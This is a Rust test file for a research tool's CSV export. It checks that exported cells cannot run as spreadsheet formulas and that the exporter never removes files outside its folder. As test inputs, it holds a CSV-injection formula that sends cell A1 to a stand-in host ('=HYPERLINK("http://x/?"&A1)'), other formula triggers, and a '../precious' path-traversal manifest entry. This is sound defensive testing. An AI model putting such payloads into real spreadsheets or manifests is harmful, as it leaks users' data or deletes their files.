//! Tables: no formula in any cell, every column explained, never over other files.

use std::collections::BTreeMap;
use std::path::Path;

use lacrima::conductor::simulate;
use lacrima::export::Tables;
use lacrima::export::tables::Rows;
use lacrima::protocol::Id;
use lacrima::record::Document;
use lacrima::session::{Device, Event, Fact, Reason, Value};
use serde_json::json;

use super::simulate::{DELAYED, plan};

const COVARIATES: &str = r#"[
  {"id": "age", "text": {"en": "Age"}, "scale": {"kind": "number", "min": 18, "max": 99}},
  {"id": "gender", "text": {"en": "Gender"}, "scale": {"kind": "choice", "options": [
    {"id": "f", "text": {"en": "F"}}, {"id": "m", "text": {"en": "M"}}]}},
  {"id": "hand", "text": {"en": "Hand"}, "scale": {"kind": "choice", "options": [{"id": "left", "text": {"en": "Left"}}]}},
  {"id": "remark", "text": {"en": "Remark"}, "scale": {"kind": "text"}}]"#;

/// A session of this participant with everything between its begin and its end that people can write, and more.
pub fn session(code: &str, seed: u64, more: Vec<Fact>) -> Document {
    let mut events = simulate(&plan(DELAYED, seed), 0.0).events;
    if let Fact::SessionStarted { header } = &mut events[0].fact {
        header.participant = Id::from(code);
        header.protocol.covariates = serde_json::from_str(COVARIATES).unwrap();
    }
    let end = events.pop().unwrap();
    let t_s = end.t_s;
    let added = more.into_iter().map(|fact| Event {
        seq: 0,
        t_s,
        at_s: None,
        fact,
    });
    events.extend(added.collect::<Vec<_>>());
    events.push(end);
    for (event, seq) in events.iter_mut().zip(1..) {
        event.seq = seq;
    }
    Document::from_events(&events).unwrap()
}

/// Every file of a folder by its name.
pub fn files(folder: &Path) -> BTreeMap<String, String> {
    std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| {
            let entry = entry.unwrap();
            let text = std::fs::read_to_string(entry.path()).unwrap();
            (entry.file_name().to_string_lossy().into_owned(), text)
        })
        .collect()
}

#[test]
fn a_formula_in_any_text_is_a_text_in_every_table_and_numbers_stay_numbers() {
    let home = tempfile::tempdir().unwrap();
    let formula = || "=HYPERLINK(\"http://x/?\"&A1)".to_owned();
    let mut events = session(
        "-P1",
        1,
        vec![
            Fact::Note { text: formula() },
            Fact::Note {
                text: ";=1;\"+A1".to_owned(),
            },
            Fact::ItemShown {
                step: "about".into(),
                item: "else".into(),
            },
            Fact::Answered {
                step: "about".into(),
                item: "else".into(),
                value: Value::Text("@SUM(1)\n\"quoted\", \t".to_owned()),
                device: Device::Key,
            },
            Fact::BoutOpened {
                bout: 9001,
                channel: "tears".into(),
                level: 2,
                key: "J".into(),
                held: true,
            },
            Fact::BoutClosed {
                bout: 9001,
                by: lacrima::session::BoutEnd::Release,
            },
        ],
    )
    .events;
    if let Fact::SessionStarted { header } = &mut events[0].fact {
        header.covariates = BTreeMap::from([
            (
                "remark".to_owned(),
                json!({"value": "+1+1", "instrument": formula()}),
            ),
            ("delta".to_owned(), json!({"value": -2.5})),
        ]);
        header.coder.id = "-C".into();
    }
    let document = Document::from_events(&events).unwrap();
    let out = home.path().join("out");
    let mut tables = Tables::begin(&out, false).unwrap();
    tables.add(&Rows::of(&document, |_| true).unwrap()).unwrap();
    tables.finish().unwrap();

    let mut columns = Vec::new();
    let mut cells = Vec::new();
    for name in files(&out).keys().filter(|name| name.ends_with(".csv")) {
        let mut table = csv::Reader::from_path(out.join(name)).unwrap();
        let head = table.headers().unwrap().clone();
        columns.extend(
            head.iter()
                .map(|column| (name.trim_end_matches(".csv").to_owned(), column.to_owned())),
        );
        let rows: Vec<csv::StringRecord> = table.records().map(|row| row.unwrap()).collect();
        assert!(!rows.is_empty(), "{name}");
        cells.extend(
            rows.iter()
                .flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()),
        );
    }
    for cell in &cells {
        let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!is_formula || cell.parse::<f64>().is_ok(), "{cell}");
    }
    // A spreadsheet that separates by semicolons sees other cells in the same file.
    for name in files(&out).keys().filter(|name| name.ends_with(".csv")) {
        let mut table = csv::ReaderBuilder::new()
            .delimiter(b';')
            .flexible(true)
            .from_path(out.join(name))
            .unwrap();
        for row in table.records().map(|row| row.unwrap()) {
            for cell in &row {
                let bare = cell.trim_start_matches(['"', ' ']);
                let is_formula = bare.starts_with(['=', '+', '@', '\t', '\r']);
                assert!(!is_formula, "{name}: {cell}");
            }
        }
    }
    for kept in [
        "'+1+1",
        "'=HYPERLINK(\"http://x/?\"&A1)",
        "'@SUM(1)\n\"quoted\", \t",
        "'-P1",
        "'-C",
        "-2.5",
    ] {
        assert!(cells.iter().any(|cell| cell == kept), "{kept}");
    }
    let mut dictionary = csv::Reader::from_path(out.join("dictionary.csv")).unwrap();
    let explained: Vec<(String, String)> = dictionary
        .records()
        .map(|row| row.unwrap())
        .map(|row| (row[0].to_owned(), row[1].to_owned()))
        .collect();
    columns.sort();
    let mut sorted = explained.clone();
    sorted.sort();
    assert_eq!(columns, sorted);
    let mut items = csv::Reader::from_path(out.join("probes.csv")).unwrap();
    let rows = items.records().map(|row| row.unwrap());
    let count = rows.filter(|row| &row[16] == "item").count();
    let answers = document
        .probes
        .iter()
        .map(|probe| probe.answers.len())
        .sum::<usize>();
    assert_eq!(count, answers + document.responses.len());
    assert!(
        document
            .responses
            .iter()
            .any(|row| row.answer.reason != Some(Reason::NotShown))
    );
}

#[test]
fn other_files_are_never_overwritten_and_an_earlier_export_only_with_force() {
    let home = tempfile::tempdir().unwrap();
    let out = home.path().join("out");
    let document = session("P1", 1, vec![]);
    let export = |force| {
        let mut tables = Tables::begin(&out, force)?;
        tables.add(&Rows::of(&document, |_| true)?)?;
        tables.finish()
    };
    export(false).unwrap();
    let before = files(&out);
    assert!(export(false).unwrap_err().contains("--force"));
    assert_eq!(files(&out), before);
    std::fs::write(out.join("mine.txt"), "precious").unwrap();
    export(true).unwrap();
    assert_eq!(files(&out)["mine.txt"], "precious");
    // What stands in an export's list does not make it the export's to remove elsewhere.
    let manifest = &before["export.json"].replace("sessions.csv", "../precious");
    std::fs::write(home.path().join("precious"), "1").unwrap();
    std::fs::write(out.join("export.json"), manifest).unwrap();
    let why = export(true).unwrap_err();
    assert!(why.contains("sessions.csv is there already"), "{why}");
    assert!(home.path().join("precious").exists());
    std::fs::write(home.path().join("file"), "1").unwrap();
    assert!(Tables::begin(&home.path().join("file"), true).is_err());
}
